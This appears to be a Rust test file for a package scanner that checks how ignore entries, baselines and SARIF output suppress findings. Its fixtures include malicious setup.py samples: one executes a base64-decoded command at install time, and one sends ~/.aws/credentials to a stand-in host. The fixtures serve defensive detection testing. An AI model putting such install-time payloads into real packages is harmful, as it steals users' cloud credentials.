//! Suppressions in `assay scan`: the configuration file's ignore entries and
//! `--baseline`, in the exit status, the JSON report and SARIF.

mod support;

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use serde_json::Value;
use support::Dist;
use tempfile::TempDir;

/// setup.py runs a base64-decoded payload at install time. Inert: assay
/// never runs it, and the archive only exists in a temporary folder.
const EXEC_DECODED: &str = "import base64\nfrom setuptools import setup\n\
exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n\
setup(name='evil', version='0.1')\n";

/// setup.py sends the user's cloud credentials out at install time.
const STEALS: &str = "import os, urllib.request\nfrom setuptools import setup\n\
creds = open(os.path.expanduser('~/.aws/credentials')).read()\n\
urllib.request.urlopen('https://collect.example/c', data=creds.encode())\n\
setup(name='evil', version='0.2')\n";

fn sdist(dir: &Path, version: &str, setup_py: &str) -> PathBuf {
    let files = [("setup.py", setup_py)];
    let (name, bytes) = Dist {
        name: "evil",
        version,
        requires: &[],
        files: &files,
    }
    .sdist();
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

fn assay(dir: &Path) -> Command {
    let mut command = Command::cargo_bin("assay").unwrap();
    command.current_dir(dir).env("NO_COLOR", "1");
    command
}

fn scan(dir: &Path, args: &[&str]) -> (i32, Value) {
    let output = assay(dir).arg("scan").args(args).output().unwrap();
    let code = output.status.code().unwrap();
    let text = String::from_utf8_lossy(&output.stdout);
    let doc = serde_json::from_str(&text).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}): {text}\nstderr: {}",
            String::from_utf8_lossy(&output.stderr)
        )
    });
    (code, doc)
}

fn findings(doc: &Value) -> &Vec<Value> {
    doc["artifacts"][0]["findings"].as_array().unwrap()
}

fn rule_of_strongest(doc: &Value) -> String {
    let found = findings(doc);
    let strongest = found
        .iter()
        .find(|f| f["severity"] == "critical")
        .or_else(|| found.iter().find(|f| f["severity"] == "high"))
        .expect("a strong finding");
    strongest["rule"].as_str().unwrap().to_owned()
}

#[test]
fn an_ignore_entry_suppresses_the_findings_it_matches_and_only_those() {
    let dir = TempDir::new().unwrap();
    let archive = sdist(dir.path(), "0.1", EXEC_DECODED);
    let target = archive.to_str().unwrap();
    let (code, plain) = scan(dir.path(), &["--format", "json", target]);
    assert_eq!(code, 1, "{plain}");
    assert_eq!(plain["artifacts"][0]["verdict"]["label"], "malicious");
    assert!(
        findings(&plain)
            .iter()
            .all(|f| f.get("suppressed").is_none())
    );

    // Every rule that fired, accepted for this project.
    let rules: Vec<String> = findings(&plain)
        .iter()
        .map(|f| f["rule"].as_str().unwrap().to_owned())
        .collect();
    let mut config = String::new();
    for rule in &rules {
        config.push_str(&format!(
            "[[ignore]]\npackage = \"Evil\"\nrule = \"{rule}\"\nreason = \"reviewed: test fixture\"\n"
        ));
    }
    std::fs::write(dir.path().join("assay.toml"), &config).unwrap();
    let (code, doc) = scan(dir.path(), &["--format", "json", target]);
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["artifacts"][0]["verdict"]["label"], "clean");
    for finding in findings(&doc) {
        assert_eq!(finding["suppressed"]["kind"], "config", "{finding}");
        assert_eq!(finding["suppressed"]["reason"], "reviewed: test fixture");
    }
    // The typed schema still reads it back (unknown fields are rejected).
    let _: assay::report::json::Document = serde_json::from_value(doc).unwrap();

    // An entry for another project matches nothing.
    std::fs::write(
        dir.path().join("assay.toml"),
        config.replace("\"Evil\"", "\"other\""),
    )
    .unwrap();
    let (code, doc) = scan(dir.path(), &["--format", "json", target]);
    assert_eq!(code, 1, "{doc}");
    assert!(findings(&doc).iter().all(|f| f.get("suppressed").is_none()));

    // --config names the file explicitly; the discovered one is ignored.
    let elsewhere = TempDir::new().unwrap();
    let given = elsewhere.path().join("team.toml");
    std::fs::write(&given, &config).unwrap();
    let (code, _) = scan(
        dir.path(),
        &[
            "--format",
            "json",
            "--config",
            given.to_str().unwrap(),
            target,
        ],
    );
    assert_eq!(code, 0);
}

#[test]
fn sarif_marks_suppressed_results_and_stays_valid() {
    let dir = TempDir::new().unwrap();
    let archive = sdist(dir.path(), "0.1", EXEC_DECODED);
    let target = archive.to_str().unwrap();
    let (_, plain) = scan(dir.path(), &["--format", "json", target]);
    let rule = rule_of_strongest(&plain);
    std::fs::write(
        dir.path().join("assay.toml"),
        format!("[[ignore]]\nrule = \"{rule}\"\nreason = \"accepted in review 42\"\n"),
    )
    .unwrap();
    let (_, log) = scan(dir.path(), &["--format", "sarif", target]);
    let results = log["runs"][0]["results"].as_array().unwrap();
    let suppressed: Vec<&Value> = results.iter().filter(|r| r["ruleId"] == *rule).collect();
    assert!(!suppressed.is_empty(), "{log}");
    for result in suppressed {
        assert_eq!(
            result["suppressions"],
            serde_json::json!([{
                "kind": "external",
                "status": "accepted",
                "justification": "accepted in review 42"
            }])
        );
    }
    for result in results.iter().filter(|r| r["ruleId"] != *rule) {
        assert!(result.get("suppressions").is_none(), "{result}");
    }
    let schema_path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../assay/tests/data/sarif-schema-2.1.0.json"
    );
    let schema: Value =
        serde_json::from_str(&std::fs::read_to_string(schema_path).unwrap()).unwrap();
    let validator = jsonschema::options().build(&schema).unwrap();
    let errors: Vec<String> = validator.iter_errors(&log).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "{errors:?}");
}

#[test]
fn a_baseline_accepts_known_findings_and_new_ones_still_fail() {
    let dir = TempDir::new().unwrap();
    let old = sdist(dir.path(), "0.1", EXEC_DECODED);
    let output = assay(dir.path())
        .args(["scan", "--format", "json", "--output", "baseline.json"])
        .arg(&old)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let baseline = dir.path().join("baseline.json");

    // The same findings: all accepted, exit 0.
    let (code, doc) = scan(
        dir.path(),
        &[
            "--format",
            "json",
            "--baseline",
            "baseline.json",
            old.to_str().unwrap(),
        ],
    );
    assert_eq!(code, 0, "{doc}");
    assert!(!findings(&doc).is_empty());
    for finding in findings(&doc) {
        assert_eq!(finding["suppressed"]["kind"], "baseline", "{finding}");
        assert!(
            finding["suppressed"]["reason"]
                .as_str()
                .unwrap()
                .contains("baseline.json")
        );
    }

    // A new version with a different payload: its findings are new.
    let new_dir = TempDir::new().unwrap();
    let new = sdist(new_dir.path(), "0.2", STEALS);
    let (code, doc) = scan(
        dir.path(),
        &[
            "--format",
            "json",
            "--baseline",
            baseline.to_str().unwrap(),
            new.to_str().unwrap(),
        ],
    );
    assert_eq!(code, 1, "{doc}");
    assert!(
        findings(&doc)
            .iter()
            .any(|f| f.get("suppressed").is_none() && f["severity"] != "low")
    );

    // A baseline that is not a report is an error, not an empty baseline.
    std::fs::write(dir.path().join("notes.json"), "{\"hello\": 1}").unwrap();
    let output = assay(dir.path())
        .args(["scan", "--baseline", "notes.json"])
        .arg(&old)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("not an assay JSON report"));
}

#[test]
fn the_human_report_shows_the_suppression_reason() {
    let dir = TempDir::new().unwrap();
    let archive = sdist(dir.path(), "0.1", EXEC_DECODED);
    let (_, plain) = scan(dir.path(), &["--format", "json", archive.to_str().unwrap()]);
    let rule = rule_of_strongest(&plain);
    std::fs::write(
        dir.path().join("pyproject.toml"),
        format!(
            "[project]\nname = \"app\"\n[tool.assay]\n[[tool.assay.ignore]]\nrule = \"{rule}\"\nreason = \"vendored test data\"\n"
        ),
    )
    .unwrap();
    let output = assay(dir.path())
        .args(["scan", "-v"])
        .arg(&archive)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(
        text.contains("suppressed (config): vendored test data"),
        "{text}"
    );
}
